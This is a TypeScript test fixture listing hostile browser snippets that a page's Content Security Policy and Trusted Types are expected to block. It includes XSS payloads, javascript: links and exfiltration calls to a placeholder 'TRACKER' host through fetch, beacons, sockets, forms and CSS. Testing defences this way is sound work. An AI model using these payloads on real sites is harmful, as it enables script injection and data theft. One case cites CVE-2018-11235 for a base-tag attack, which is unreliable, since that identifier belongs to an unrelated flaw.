import type { HostileCase } from './case.js';

/** Code that a fault of the app would let run, and how the page's policy still stops it. */
export interface WallCase extends HostileCase {
  code: string;
  /** The directive that is violated, or the error that is thrown. */
  stopped: string;
}

const element = (name: string, attributes: string) =>
  `const element = document.createElement('${name}'); Object.assign(element, ${attributes}); document.body.append(element);`;

export const walls: readonly WallCase[] = [
  {
    name: 'text does not become HTML',
    rule: 'CWE-79; Trusted Types',
    code: `document.body.innerHTML = '<img src=x onerror=__ran(1)>'`,
    stopped: 'TypeError',
  },
  {
    name: 'nor by any other way into the document',
    rule: 'Trusted Types',
    code: `document.createRange().createContextualFragment('<img src=x>')`,
    stopped: 'TypeError',
  },
  { name: 'a document is not written', rule: 'Trusted Types', code: `document.write('<script>__ran(1)</script>')`, stopped: 'TypeError' },
  { name: 'text does not become a timer', rule: 'CWE-95', code: `setTimeout('__ran(1)', 0)`, stopped: 'TypeError' },
  {
    name: 'no other policy lets text through',
    rule: 'Trusted Types',
    code: `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
    stopped: 'TypeError',
  },
  {
    name: 'a script has no text of its own',
    rule: 'CSP script-src',
    code: `const script = document.createElement('script'); script.text = '__ran(1)'; document.body.append(script)`,
    stopped: 'TypeError',
  },
  {
    name: 'a script in text nodes has no nonce',
    rule: 'CSP script-src',
    code: `const script = document.createElement('script'); script.append('__ran(1)'); document.body.append(script)`,
    stopped: 'TypeError|script-src|require-trusted-types-for',
  },
  {
    name: 'an attribute is no handler',
    rule: 'CSP script-src-attr',
    code: `document.body.setAttribute('onclick', '__ran(1)'); document.body.click()`,
    stopped: 'TypeError|script-src|require-trusted-types-for',
  },
  {
    name: 'a module from elsewhere is not loaded',
    rule: 'CSP script-src',
    code: `import('TRACKER/evil.js').catch(() => {})`,
    stopped: 'script-src',
  },
  {
    name: 'nor one in an address of data',
    rule: 'CSP script-src',
    code: `import('data:text/javascript,__ran(1)').catch(() => {})`,
    stopped: 'script-src',
  },
  {
    name: 'a link of a script runs nothing',
    rule: 'CWE-79',
    code: `const link = document.createElement('a'); link.href = 'javascript:__ran(1)'; document.body.append(link); link.click()`,
    stopped: 'script-src|TypeError',
  },
  {
    name: 'nor does a window of one',
    rule: 'CWE-79',
    code: `window.open('javascript:__ran(1)', '_self')`,
    stopped: 'script-src|TypeError',
  },
  {
    name: 'a worker comes from the platform alone',
    rule: 'CSP worker-src',
    code: `new Worker(URL.createObjectURL(new Blob(['1'])))`,
    stopped: 'TypeError',
  },
  {
    name: 'no service worker is registered from text',
    rule: 'Service Workers',
    code: `navigator.serviceWorker.register('/api/version')`,
    stopped: 'TypeError|require-trusted-types-for',
  },
  {
    name: 'a frame has no text of its own',
    rule: 'Trusted Types',
    code: element('iframe', `{ srcdoc: '<script>parent.__ran(1)</script>' }`),
    stopped: 'TypeError',
  },
  {
    name: 'a frame of another origin is not shown',
    rule: 'CSP frame-src',
    code: element('iframe', `{ src: 'TRACKER/frame' }`),
    stopped: 'frame-src',
  },
  {
    name: 'an object is not shown',
    rule: 'CSP object-src',
    code: element('object', `{ data: 'TRACKER/object' }`),
    stopped: 'TypeError|object-src|frame-src',
  },
  { name: 'an image elsewhere is not asked for', rule: 'CSP img-src', code: `new Image().src = 'TRACKER/image.png'`, stopped: 'img-src' },
  { name: 'nor a film', rule: 'CSP media-src', code: element('video', `{ src: 'TRACKER/film.mp4' }`), stopped: 'media-src' },
  {
    name: 'nor a font',
    rule: 'CSP font-src',
    code: `new FontFace('evil', 'url(TRACKER/font.woff2)').load().catch(() => {})`,
    stopped: 'font-src',
  },
  {
    name: 'nor a style sheet',
    rule: 'CSP style-src',
    code: element('link', `{ rel: 'stylesheet', href: 'TRACKER/style.css' }`),
    stopped: 'style-src',
  },
  {
    name: 'nor anything that a style names',
    rule: 'CSS exfiltration; CSP img-src',
    code: `document.adoptedStyleSheets[0] ??= new CSSStyleSheet(); document.adoptedStyleSheets[0].insertRule('body { background: url(TRACKER/css) }')`,
    stopped: 'img-src',
  },
  {
    name: 'an element has no style of text',
    rule: 'CSP style-src-attr',
    code: `document.body.setAttribute('style', 'background: red')`,
    stopped: 'style-src',
  },
  {
    name: 'nor a page a style of text',
    rule: 'CSP style-src-elem',
    code: `const style = document.createElement('style'); style.append('* { color: red }'); document.head.append(style)`,
    stopped: 'style-src',
  },
  { name: 'nothing is sent elsewhere', rule: 'CSP connect-src', code: `fetch('TRACKER/fetch').catch(() => {})`, stopped: 'connect-src' },
  { name: 'not at the end either', rule: 'CSP connect-src', code: `navigator.sendBeacon('TRACKER/beacon', 'x')`, stopped: 'connect-src' },
  {
    name: 'nor over a socket',
    rule: 'CSP connect-src',
    code: `new WebSocket('TRACKER/socket'.replace('http', 'ws'))`,
    stopped: 'connect-src',
  },
  {
    name: 'nor by a form',
    rule: 'CSP form-action',
    code: `const form = document.createElement('form'); form.action = 'TRACKER/form'; document.body.append(form); form.submit()`,
    stopped: 'form-action',
  },
  {
    name: 'the base of addresses stays',
    rule: 'CSP base-uri; CVE-2018-11235',
    code: `const base = document.createElement('base'); base.href = 'TRACKER/'; document.head.append(base); if (document.baseURI.startsWith('TRACKER')) __ran(1)`,
    stopped: 'base-uri',
  },
  {
    name: 'nothing is fetched ahead from elsewhere',
    rule: 'CSP default-src',
    code: element('link', `{ rel: 'prefetch', href: 'TRACKER/ahead' }`),
    stopped: 'default-src|prefetch-src|connect-src',
  },
];
